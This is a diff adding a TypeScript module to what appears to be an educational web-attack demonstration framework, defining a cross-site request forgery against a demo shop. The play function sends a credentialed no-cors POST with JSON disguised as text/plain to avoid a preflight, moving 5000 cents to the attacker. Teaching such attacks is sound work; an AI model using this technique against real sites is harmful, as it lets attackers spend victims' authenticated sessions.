@@ -1,0 +1,27 @@
+/** Script of another site’s page sends JSON that looks like text, so that no preflight is made. Not: reading the answer (csrf-read.ts). */
+import { document } from '#sources/sources';
+import { ORIGIN } from '../origins';
+import { ATTACKER_NAME } from '../shop';
+import type { AttackUnit } from '../attack';
+
+const attack: AttackUnit = {
+  order: 22,
+  group: 'requests from elsewhere',
+  label: 'Forged fetch',
+  says: 'Script on a page of the attacker’s sends JSON to the shop under the type text/plain, which needs no preflight, with the victim’s cookies if the browser adds them.',
+  grants: ['a page that the victim opens'],
+  sources: [document('owasp-csrf'), document('fetch', 'section 3.3')],
+  scene: ['log-in', 'read-orders'],
+  presupposes: { crossSite: 'yes', defences: ['secure'] },
+  play: async (hands) => {
+    const page = await hands.ownPage();
+    const content = JSON.stringify({ to: ATTACKER_NAME, cents: 5000 });
+    await page.send('POST', `${ORIGIN}/transfer`, [], content, {
+      mode: 'no-cors',
+      credentials: 'include',
+      contentType: 'text/plain',
+    });
+  },
+};
+
+export default attack;
